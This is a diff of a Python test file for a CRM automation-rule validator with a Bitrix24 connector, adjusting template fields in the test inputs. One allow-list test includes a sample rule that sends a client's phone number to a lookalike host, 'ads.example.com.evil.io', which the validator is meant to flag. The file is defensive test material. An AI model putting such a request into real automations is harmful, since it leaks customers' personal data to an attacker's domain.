@@ -80,7 +80,7 @@ ON_REHABILITATION = "{changed: deal.stage, pipeline: rehabilitation, to: booked}
 
 
 def test_a_deal_field_the_connector_does_not_map(tmp_path: Path) -> None:
-    code, out, _ = validate(tmp_path, rule('deal.update: {fields: {visit_time: "{{ deal.visit }}"}}',
+    code, out, _ = validate(tmp_path, rule('deal.update: {fields: {visit_time: "{{ deal.title }}"}}',
                                            when=ON_REHABILITATION))
     assert code == 1
     assert out[:2] == [
@@ -88,7 +88,7 @@ def test_a_deal_field_the_connector_does_not_map(tmp_path: Path) -> None:
         "    hint: did you mean 'visit_at'? Or map it under `fields:` of connector 'crm' in automator.yaml "
         "(visit_time: UF_CRM_…) or write the Bitrix24 code"]
     # A mapped name, a standard one and a Bitrix24 code are all written by the connector.
-    code, out, _ = validate(tmp_path, rule('deal.update: {fields: {visit_at: "{{ deal.visit }}", amount: 10, '
+    code, out, _ = validate(tmp_path, rule('deal.update: {fields: {visit_at: "{{ deal.title }}", amount: 10, '
                                            "UF_CRM_17: x}}", when=ON_REHABILITATION))
     assert code == 0, out
 
@@ -221,7 +221,7 @@ def test_a_url_to_a_host_off_the_allow_list(tmp_path: Path) -> None:
         'http.request: {method: POST, url: "{{ settings.tracker_url }}"}',
         'http.request: {method: GET, url: "https://ads.example.com.evil.io/a?phone={{ client.phone }}"}',
         'http.request: {method: POST, url: "{{ settings.ads_url }}", json: {phone: "{{ client.phone }}"}}',
-        'http.request: {method: GET, url: "{{ event.callback }}"}'))
+        "http.request: {method: GET, url: \"{{ get(event, 'callback', '') }}\"}"))
     assert code == 1
     hint = "    hint: add \"{}\" to its `allow:` in automator.yaml (now: ads.example.com), or correct the URL"
     assert out == [
